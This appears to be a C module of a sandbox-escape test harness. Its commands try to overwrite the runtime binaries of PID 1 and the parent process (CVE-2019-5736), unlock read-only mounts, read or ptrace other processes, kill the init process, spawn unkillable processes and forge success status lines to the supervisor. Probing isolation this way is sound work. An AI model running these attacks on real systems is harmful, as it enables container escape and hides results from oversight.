// Attacks on the processes around the payload: the init, and the supervisor where it can be seen.
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

// Writes to the file behind a descriptor that was opened for reading.
static void try_to_write(const char *what, int file) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", file);
  int again = open(path, O_WRONLY);
  tell(what, again < 0 ? -1 : write(again, "overwritten", 11));
  if (again >= 0) close(again);
}

// Makes the mount of an executable writable, or a copy of that mount: it may be what keeps us from writing.
static void try_to_unlock(int file) {
  unsigned long long attributes[4] = {0, MOUNT_ATTR_RDONLY, 0, 0};
  tell("overwrite, mount", syscall(SYS_mount_setattr, file, "", AT_EMPTY_PATH, attributes, sizeof attributes));
  int copy = syscall(SYS_open_tree, file, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
  if (copy < 0) return;
  tell("overwrite, copied mount", syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, attributes, sizeof attributes));
  try_to_write("overwrite, in the copy", copy);
  close(copy);
}

// overwrite: the executables of PID 1 and of the parent (CVE-2019-5736), while they
// run, and by a process that outlives the parent, when it has ended.
int overwrite_command(int count, char **arguments) {
  (void)count, (void)arguments;
  int parent = getppid(), files[2];
  const char *names[] = {"PID 1", "parent"};
  int process = parent > 0 ? syscall(SYS_pidfd_open, parent, 0) : -1;
  for (int i = 0; i < 2; i++) {
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/%d/exe", i == 0 ? 1 : parent);
    files[i] = open(path, O_RDONLY);
    tell(names[i], files[i]);
    if (files[i] < 0) continue;
    ssize_t size = readlink(path, target, sizeof target - 1);
    target[size < 0 ? 0 : size] = 0;
    say("%s is %s", names[i], target);
    // PID 1 may be the machine's own, which has a path here.
    if (i == 0 && strncmp(target, "/memfd:", 7) != 0 && strcmp(target, "/") != 0) continue;
    try_to_unlock(files[i]);
    try_to_write("overwrite, running", files[i]);
  }
  if (process < 0) return 0;
  if (fork() > 0) return 0;
  // Out of everybody's group and session.
  setsid();
  struct pollfd wanted = {.fd = process, .events = POLLIN};
  poll(&wanted, 1, -1);
  if (files[1] >= 0) try_to_write("overwrite, ended", files[1]);
  say("survivor ends");
  return 0;
}

static void try_file(int pid, const char *name, int flags) {
  char path[64], byte[8];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  int file = open(path, flags);
  long result = file;
  // Of memory only what is mapped can be read: that it was opened is enough.
  if (file >= 0 && (flags & (O_PATH | O_DIRECTORY)) == 0 && strcmp(name, "mem") != 0) result = read(file, byte, sizeof byte);
  tell(name, result);
  if (file >= 0) close(file);
}

// process PID: everything that could be taken from a process or done to it, but its end.
int process_command(int count, char **arguments) {
  int pid = count > 0 && number(arguments[0]) > 0 ? number(arguments[0]) : getppid();
  try_file(pid, "mem", O_RDONLY);
  try_file(pid, "environ", O_RDONLY);
  try_file(pid, "maps", O_RDONLY);
  try_file(pid, "auxv", O_RDONLY);
  try_file(pid, "fd", O_RDONLY | O_DIRECTORY);
  try_file(pid, "fd/0", O_PATH);
  try_file(pid, "fdinfo/0", O_RDONLY);
  try_file(pid, "cwd", O_RDONLY | O_DIRECTORY);
  try_file(pid, "root", O_RDONLY | O_DIRECTORY);
  try_file(pid, "ns/mnt", O_RDONLY | O_PATH);
  try_file(pid, "exe", O_RDONLY);
  char byte;
  struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
  tell("process_vm_readv", process_vm_readv(pid, &here, 1, &there, 1, 0));
  int process = syscall(SYS_pidfd_open, pid, 0);
  tell("pidfd_getfd", process < 0 ? -1 : syscall(SYS_pidfd_getfd, process, 0, 0));
  long seized = ptrace(PTRACE_SEIZE, pid, NULL, NULL);
  tell("ptrace", seized);
  if (seized == 0) ptrace(PTRACE_DETACH, pid, NULL, NULL);
  return 0;
}

// descriptors: what is open, the standard streams too.
int descriptors_command(int count, char **arguments) {
  (void)count, (void)arguments;
  for (int i = 0; i < 4096; i++) {
    struct stat status;
    if (fstat(i, &status) < 0) continue;
    char path[64], target[4096];
    snprintf(path, sizeof path, "/proc/self/fd/%d", i);
    ssize_t size = readlink(path, target, sizeof target - 1);
    target[size < 0 ? 0 : size] = 0;
    say("%d %s", i, target);
  }
  return 0;
}

// first: as PID 1 of the sandbox, or beside it: the signals that nobody can refuse.
int first_command(int count, char **arguments) {
  (void)count, (void)arguments;
  tell("stop", kill(1, SIGSTOP));
  tell("kill", kill(1, SIGKILL));
  say("pid %d", getpid());
  return 0;
}

// crowd N: as many processes that wait for ever, in sessions of their own, stopped or
// deaf to all signals but one; says "crowd N" when they are there.
int crowd_command(int count, char **arguments) {
  int wanted = count > 0 ? number(arguments[0]) : 1, made = 0;
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, NULL);
  for (; made < wanted; made++) {
    pid_t pid = fork();
    if (pid < 0) break;
    if (pid > 0) continue;
    if (made % 2 == 0) setsid();
    if (made % 3 == 0) kill(getpid(), SIGSTOP);
    for (;;) pause();
  }
  say("crowd %d", made);
  for (;;) pause();
}

// forge: fake status lines to every descriptor but the standard ones.
int forge_command(int count, char **arguments) {
  (void)count, (void)arguments;
  static const char fake[] = "{ \"exit-code\": 0 }\n{\"event\":\"exited\",\"status\":0}\n\2\3";
  for (int i = 3; i < 4096; i++) {
    ssize_t written = write(i, fake, sizeof fake - 1);
    if (written > 0) say("forged %d", i);
  }
  return 7;
}
